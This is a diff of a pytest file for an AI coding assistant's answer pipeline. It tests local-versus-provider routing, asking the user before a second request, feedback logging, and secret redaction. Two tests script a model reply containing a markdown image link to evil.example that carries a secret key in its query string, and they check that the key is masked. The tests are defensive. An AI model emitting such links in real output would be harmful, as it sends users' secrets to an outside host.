@@ -6,14 +6,16 @@ from typing import Any
 
 import pytest
 from config_files import write
-from gates import SCOPE, allowed, parts, request, spans
-from hostile import Hostile, answer
+from gates import allowed, parts, request, spans
+from hostile import Hostile
+from hostile import answer as answering
 from scripted_model import ScriptedModel
 
 from assist_context.documents import Document
 from assist_context.evidence.call_graph import TargetLines
+from assist_context.languages import language_of
 from assist_escalation.edits.plan import EditTarget
-from assist_escalation.gate.prepare import GateParts, prepare
+from assist_escalation.gate.prepare import prepare
 from assist_escalation.prompts import Prompt
 from assist_escalation.routing import feedback
 from assist_escalation.routing.features import RequestFacts
@@ -22,14 +24,22 @@ from assist_server.cli.commands.question_run import consent_of_flags
 from assist_server.cli.flags import Asking
 from assist_server.config.config import load
 from assist_server.editor.feedback.usage_counts import repository_key
-from assist_server.questions.answering import AnswerPiece, AnswerSources, AnswerStart, FinalAnswer, Notice
-from assist_server.questions.answering import answer as answering
-from assist_server.questions.composition import record_feedback
-from assist_server.questions.decision import DecidedQuestion, DecisionInputs, Draft, LocalModelFacts, Question
-from assist_server.questions.instructions import Form
-from assist_server.questions.progress import Progress, WritingPace, reading
+from assist_server.questions.composition import decision_inputs
+from assist_server.questions.decision import DecidedQuestion, Leaving
+from assist_server.questions.draft import Draft, Question
+from assist_server.questions.events import (
+    AnswerPiece,
+    AnswerProgress,
+    AnswerStart,
+    Notice,
+    WritingPace,
+    reading,
+)
+from assist_server.questions.final_answer import FinalAnswer
+from assist_server.questions.instructions import AnswerForm
 from assist_server.questions.prompt_spans import Evidence
 from assist_server.questions.record_files import gate_files
+from assist_server.questions.run import AnswerOptions, answer, record_happening
 from assist_server.questions.targets import QuestionTarget
 from assist_server.workspace.folders import key_of
 
@@ -39,109 +49,100 @@ HISTORY = (0.4,) * 200
 NOWHERE = "http://127.0.0.1:9/v1"
 
 
-def always(pieces: list[str]) -> ScriptedModel:
+def always(*pieces: str) -> ScriptedModel:
     """A local model that always writes the same, and doubts it."""
     return ScriptedModel(lambda _: pieces, ended="length", read=120)
 
 
-def inputs_of(made: GateParts, permissions: Any) -> DecisionInputs:
-    facts = LocalModelFacts(True, 700, 8192)
-    return DecisionInputs(
-        facts, permissions, SCOPE, False, lambda _: permissions, lambda: made, lambda: "abc123", HISTORY
-    )
-
-
-def decided_by(folder: Path, url: str, made: GateParts, *, command: str = "explain", **rules: Any) -> Any:
+def decided_by(folder: Path, url: str = NOWHERE, *, command: str = "explain", **rules: Any) -> Any:
+    """A question that a provider at `url` may answer, and the local model before it."""
     permissions = allowed(url, folder)
+    inputs = decision_inputs(load(write(folder, "")), [str(folder)])
+    inputs = replace(inputs, permissions=permissions, local=replace(inputs.local, available=True))
     shown = spans(folder, FILE)
-    prepared = prepare(request(permissions, shown), made)
-    prompt = Prompt(command, shown)
-    form = Form("whole", "```") if command == "fix" else Form()
-    texts = {"shop/cart.py": FILE}
+    gate = parts(folder)
+    prepared = prepare(request(permissions, shown), gate)
+    form = AnswerForm("whole", "```") if command == "fix" else AnswerForm()
     whole = EditTarget("shop/cart.py", 1, 5) if command == "fix" else None
-    draft = Draft(prompt, form, Evidence(shown[1:2], texts=texts), whole)
+    draft = Draft(Prompt(command, shown), form, Evidence(shown[1:2], texts={"shop/cart.py": FILE}), whole)
     free = RoutingRules(
         mode="auto", rate=0.5, provider="acme", upper_micro=5_000, request_micro=50_000, left_micro=2_000_000
     )
     free = replace(free, **rules)
     wish = "frontier" if command == "fix" else "auto"
     first = route(RequestFacts(command, symbols=1, fan_out=1), free, wish, HISTORY)
-    lines = QuestionTarget(TargetLines("shop/cart.py", 1, 5), Document("shop/cart.py", (FILE,), None))  # type: ignore[arg-type]
+    lines = QuestionTarget(
+        TargetLines("shop/cart.py", 1, 5), Document("shop/cart.py", (FILE,), language_of("shop/cart.py"))
+    )
     question = Question(command, "", lines, wish=wish)
-    root = str(folder.resolve())
-    return DecidedQuestion("r1", question, root, draft, first, free, draft, prepared)
+    leaving = Leaving(draft, prepared, gate)
+    return DecidedQuestion("r1", question, str(folder.resolve()), draft, first, free, inputs, leaving)
 
 
-async def heard(
-    decided: DecidedQuestion,
-    inputs: DecisionInputs,
-    local: ScriptedModel,
-    *,
-    agrees: bool = False,
-    noted: list[str] | None = None,
-) -> tuple[str, list[str], FinalAnswer, list[bool]]:
-    """The pieces, the notices, the end, and the second requests that were asked about.
+def sent_to(decided: Any, url: str) -> Any:
+    """The same question for a provider at another address."""
+    prepared = decided.prepared
+    moved = replace(prepared, endpoint=replace(prepared.endpoint, base_url=url))
+    return replace(decided, leaving=replace(decided.leaving, prepared=moved))
 
-    What becomes of the request is added to `noted`.
-    """
+
+async def events_of(
+    decided: DecidedQuestion, local: ScriptedModel, *, agrees: bool = False
+) -> tuple[list[Any], list[bool]]:
+    """All events, and for each request that the user was asked about whether it was a second one."""
     asked: list[bool] = []
-    happened = noted if noted is not None else []
 
     async def confirm(what: DecidedQuestion) -> bool:
         asked.append(what.decision.again)
         return agrees
 
-    async def load() -> Any:
+    async def load_model() -> Any:
         return local
 
-    text = ""
-    notices: list[str] = []
-    final = None
-    async for event in answering(
-        decided,
-        inputs,
-        AnswerSources(load, lambda *what: happened.append(f"{what[1].target} {what[2]}")),
-        confirm,
-    ):
-        match event:
-            case AnswerPiece(piece):
-                text += piece
-            case Notice(notice):
-                notices.append(notice)
-            case FinalAnswer():
-                final = event
-    assert final is not None
-    return text, notices, final, asked
+    return [event async for event in answer(decided, AnswerOptions(load_model, confirm))], asked
+
+
+async def heard(
+    decided: DecidedQuestion, local: ScriptedModel, *, agrees: bool = False
+) -> tuple[str, list[str], FinalAnswer, list[bool]]:
+    """The pieces, the notices, the end, and the second requests that were asked about."""
+    events, asked = await events_of(decided, local, agrees=agrees)
+    text = "".join(event.text for event in events if isinstance(event, AnswerPiece))
+    notices = [event.text for event in events if isinstance(event, Notice)]
+    assert isinstance(events[-1], FinalAnswer)
+    return text, notices, events[-1], asked
+
+
+def noted(decided: DecidedQuestion) -> list[str]:
+    """What was recorded: who answered or would, what happened, and the model where one answered."""
+    found = feedback.events(gate_files(decided.inputs.config).feedback)
+    return [" ".join(filter(None, (event.target, event.event, event.model))) for event in found]
 
 
 async def test_a_doubtful_local_answer_is_kept_unless_the_person_agrees(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    async with Hostile(answer("It adds.")) as acme:
-        decided = decided_by(tmp_path, acme.url, made)
-        inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        _, notices, final, asked = await heard(decided, inputs, always(["Perhaps."]))
+    async with Hostile(answering("It adds.")) as acme:
+        decided = decided_by(tmp_path, acme.url)
+        _, notices, final, asked = await heard(decided, always("Perhaps."))
         assert (final.text, asked, acme.connections) == ("Perhaps.", [True], 0)
         assert "--frontier" in notices[-1]
         assert "allow_unasked_retry" in notices[-1]
-        noted: list[str] = []
-        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]), agrees=True, noted=noted)
+        before = len(noted(decided))
+        _, _, final, asked = await heard(decided, always("Perhaps."), agrees=True)
         assert (final.text, asked, acme.connections) == ("It adds.", [True], 1)
-        assert noted == ["local routed", "frontier answered", "frontier escalated_after"]
+    happened = noted(decided)[before:]
+    assert happened == ["local routed", "frontier answered frontier-1", "frontier escalated_after"]
 
 
 async def test_a_local_answer_that_is_kept_since_the_provider_failed_is_no_bad_one(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, NOWHERE, made)
-    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
-    noted: list[str] = []
-    _, notices, final, asked = await heard(decided, inputs, always(["Perhaps."]), agrees=True, noted=noted)
+    decided = decided_by(tmp_path)
+    _, notices, final, asked = await heard(decided, always("Perhaps."), agrees=True)
     assert (final.text, asked) == ("Perhaps.", [True])
     assert notices[-1].endswith("The local answer is kept.")
-    assert noted == ["local routed", "local answered"]
+    assert noted(decided) == ["local routed", "local answered small"]  # its file is small.gguf
 
 
 def test_no_flag_sends_what_a_local_answer_doubts(tmp_path: Path) -> None:
-    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", parts(tmp_path))
+    decided = decided_by(tmp_path)
     second = replace(decided, decision=replace(decided.decision, target="frontier", again=True))
     yes = Asking(yes=True)
     assert consent_of_flags(decided, yes, terminal=False) is True
@@ -154,34 +155,29 @@ def test_no_flag_sends_what_a_local_answer_doubts(tmp_path: Path) -> None:
 def test_what_becomes_of_a_request_is_kept_for_the_repository_whichever_folder_is_open(
     tmp_path: Path,
 ) -> None:
-    for each in (".git/objects", ".git/refs", "crate", "shop"):
-        (tmp_path / "top" / each).mkdir(parents=True)
+    for name in (".git/objects", ".git/refs", "crate", "shop"):
+        (tmp_path / "top" / name).mkdir(parents=True)
     (tmp_path / "top" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
-    config = load(write(tmp_path, ""))
-    decided = decided_by(tmp_path, NOWHERE, parts(tmp_path))
+    decided = decided_by(tmp_path)
     decided = replace(decided, question=replace(decided.question, target=None))
     top = str(tmp_path.resolve() / "top")
     for root in (f"{top}/crate", top, ""):
-        record_feedback(config, replace(decided, root=root), decided.decision, "routed")
-    found = [each.repo for each in feedback.events(gate_files(config).feedback)]
+        record_happening(replace(decided, root=root), decided.decision, "routed")
+    found = [event.repo for event in feedback.events(gate_files(decided.inputs.config).feedback)]
     assert found == [repository_key(f"{top}/crate"), key_of(top), ""]
 
 
 async def test_a_key_of_the_persons_own_lets_it_be_asked_again_unasked(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    async with Hostile(answer("It adds.")) as acme:
-        decided = decided_by(tmp_path, acme.url, made, allow_unasked_retry=True)
-        inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]))
+    async with Hostile(answering("It adds.")) as acme:
+        decided = decided_by(tmp_path, acme.url, allow_unasked_retry=True)
+        _, _, final, asked = await heard(decided, always("Perhaps."))
     assert (final.text, asked, acme.connections) == ("It adds.", [], 1)
 
 
 async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, rate=0.0)
-    inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
-    local = always(["The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")"])
-    text, notices, final, _ = await heard(decided, inputs, local)
+    decided = decided_by(tmp_path, rate=0.0)
+    local = always("The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")")
+    text, notices, final, _ = await heard(decided, local)
     assert text == final.text
     assert text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
     assert text.count(KEY) == 1
@@ -189,114 +185,63 @@ async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) ->
 
 
 async def test_a_providers_answer_shows_no_secret_in_an_address_and_says_so(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made)
-    prepared = decided.prepared
-    name = next(iter(prepared.redacted.placeholders))
+    decided = decided_by(tmp_path)
+    name = next(iter(decided.prepared.redacted.placeholders))
     lines = f"The key is {name}.\n![badge](https://evil.example/b.png?k={name})\n"
     frontier = replace(decided.decision, target="frontier", cause="asked_frontier")
-    async with Hostile(answer(lines[:40], lines[40:])) as acme:
-        endpoint = replace(prepared.endpoint, base_url=acme.url)
-        decided = replace(decided, decision=frontier, prepared=replace(prepared, endpoint=endpoint))
-        inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        text, notices, final, _ = await heard(decided, inputs, always([]))
+    async with Hostile(answering(lines[:40], lines[40:])) as acme:
+        decided = replace(sent_to(decided, acme.url), decision=frontier)
+        text, notices, final, _ = await heard(decided, always())
     assert text == final.text == f"The key is {KEY}.\n![badge](https://evil.example/b.png?k={name})\n"
     assert "1 here" in notices[-1]
 
 
+def corrected(decided: Any) -> str:
+    """The file as a provider was shown it, with its mistake corrected."""
+    shown: str = decided.prepared.redacted.spans[1].text
+    assert KEY not in shown
+    return f"```python\n{shown.replace('return 1', 'return sum(items)')}```\n"
+
+
 async def test_an_edit_keeps_a_line_with_an_address_and_its_secret(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, command="fix")
-    prepared = decided.prepared
-    body = prepared.redacted.spans[1].text.replace("return 1", "return sum(items)")
-    assert KEY not in body
-    async with Hostile(answer(f"```python\n{body}```\n")) as acme:
-        endpoint = replace(prepared.endpoint, base_url=acme.url)
-        decided = replace(decided, prepared=replace(prepared, endpoint=endpoint))
-        inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        text, _, final, _ = await heard(decided, inputs, always([]))
+    decided = decided_by(tmp_path, command="fix")
+    async with Hostile(answering(corrected(decided))) as acme:
+        text, _, final, _ = await heard(sent_to(decided, acme.url), always())
     assert KEY not in text
     assert final.plan is not None, final.problem
     assert final.plan.changes[0].after == FILE.replace("return 1", "return sum(items)")
 
 
-async def test_an_edit_that_our_checks_refuse_is_remembered_as_no_answer(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, command="fix")
-    local = replace(decided, decision=replace(decided.decision, target="local", asks=False))
-    inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
-    noted: list[str] = []
-    _, _, final, _ = await heard(local, inputs, always(["I would not change it."]), noted=noted)
-    assert final.problem is not None
-    assert noted == ["local routed", "local unusable"]
-    async with Hostile(answer("Nor would I.")) as acme:
-        assert decided.prepared is not None
-        endpoint = replace(decided.prepared.endpoint, base_url=acme.url)
-        asked = replace(decided, prepared=replace(decided.prepared, endpoint=endpoint))
-        noted.clear()
-        await heard(asked, inputs_of(made, allowed(acme.url, tmp_path)), always([]), noted=noted)
-    assert noted == ["frontier routed", "frontier unusable"]
-
-
-async def ends_of(decided: Any, inputs: DecisionInputs) -> list[tuple[str, ...]]:
-    """The target, the happening and the model of what is noted after the decision."""
-    noted: list[tuple[str, ...]] = []
-
-    async def load() -> Any:
-        return always(["It adds."])
-
-    async def refuse(_: object) -> bool:
-        return False
-
-    sources = AnswerSources(load, lambda *what: noted.append((what[1].target, *what[2:])))
-    async for _ in answering(decided, inputs, sources, refuse):
-        pass
-    return noted[1:]
-
-
-async def test_who_ended_an_answer_and_how_is_noted_without_a_path(tmp_path: Path) -> None:
-    made = parts(tmp_path)
-    explain = decided_by(tmp_path, NOWHERE, made, mode="never", local_model=True)
-    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
-    assert await ends_of(explain, inputs) == [("local", "answered", "small")]  # its file is small.gguf
-    fix = decided_by(tmp_path, NOWHERE, made, command="fix")
-    body = fix.prepared.redacted.spans[1].text.replace("return 1", "return sum(items)")
-    async with Hostile(answer(f"```python\n{body}```\n")) as acme:
-        endpoint = replace(fix.prepared.endpoint, base_url=acme.url)
-        asked = replace(fix, prepared=replace(fix.prepared, endpoint=endpoint))
-        found = await ends_of(asked, inputs_of(made, allowed(acme.url, tmp_path)))
-    assert found == [("frontier", "offered", endpoint.model)]
-
-
-async def events_of(tmp_path: Path, command: str) -> list[Any]:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, NOWHERE, made, command=command, mode="never", local_model=True)
-    local = always(["It ", "adds."])
-
-    async def load() -> Any:
-        return local
-
-    async def agree(_: object) -> bool:
-        return False
-
-    inputs = inputs_of(made, allowed(NOWHERE, tmp_path))
-    return [event async for event in answering(decided, inputs, AnswerSources(load, lambda *_: None), agree)]
+@pytest.mark.parametrize(
+    ("command", "target", "answered", "happened"),
+    [
+        ("explain", "local", "It adds.", "answered small"),
+        ("fix", "local", "I would not change it.", "unusable small"),
+        ("fix", "frontier", "Nor would I.", "unusable frontier-1"),
+        ("fix", "frontier", "", "offered frontier-1"),  # the corrected file
+    ],
+)
+async def test_who_ended_an_answer_and_how_is_noted_without_a_path(
+    tmp_path: Path, command: str, target: str, answered: str, happened: str
+) -> None:
+    decided = decided_by(tmp_path, command=command, mode="never" if target == "local" else "auto")
+    decision = replace(decided.decision, target=target, asks=False)
+    async with Hostile(answering(answered or corrected(decided))) as acme:
+        asked = replace(sent_to(decided, acme.url), decision=decision)
+        _, _, final, _ = await heard(asked, always(answered))
+    assert (final.problem is not None) == happened.startswith("unusable")
+    assert noted(decided) == [f"{target} routed", f"{target} {happened}"]
 
 
 async def test_reading_is_told_before_the_first_word_and_the_text_needs_no_count(tmp_path: Path) -> None:
-    events = await events_of(tmp_path, "explain")
-    start = next(at for at, each in enumerate(events) if isinstance(each, AnswerStart))
-    first = next(at for at, each in enumerate(events) if isinstance(each, AnswerPiece))
-    told = [each for each in events if isinstance(each, Progress)]
+    events, _ = await events_of(decided_by(tmp_path, mode="never", local_model=True), always("It ", "adds."))
+    start = next(at for at, event in enumerate(events) if isinstance(event, AnswerStart))
+    first = next(at for at, event in enumerate(events) if isinstance(event, AnswerPiece))
+    told = [event for event in events if isinstance(event, AnswerProgress)]
     assert told == events[start + 1 : first]
     assert told[-1] == reading(120, 60.0)
     assert told[-1].seconds == 2.0
-
-
-async def test_an_answer_names_the_files_that_the_model_read(tmp_path: Path) -> None:
-    final = (await events_of(tmp_path, "explain"))[-1]
-    assert isinstance(final, FinalAnswer)
-    assert [each.path for each in final.sources] == ["shop/cart.py"]
+    assert [source.path for source in events[-1].sources] == ["shop/cart.py"]
 
 
 @pytest.mark.parametrize(
@@ -306,9 +251,8 @@ async def test_an_answer_names_the_files_that_the_model_read(tmp_path: Path) -> 
 async def test_an_answer_given_while_nothing_may_leave_stays_here_later(
     tmp_path: Path, rules: dict[str, Any], stays: bool
 ) -> None:
-    made = parts(tmp_path)
-    decided = decided_by(tmp_path, NOWHERE, made, local_model=True, **rules)
-    _, _, final, _ = await heard(decided, inputs_of(made, allowed(NOWHERE, tmp_path)), always(["It adds."]))
+    decided = decided_by(tmp_path, local_model=True, **rules)
+    _, _, final, _ = await heard(decided, always("It adds."))
     assert final.thread is not None
     assert final.thread.turns[-1].stays is stays
 
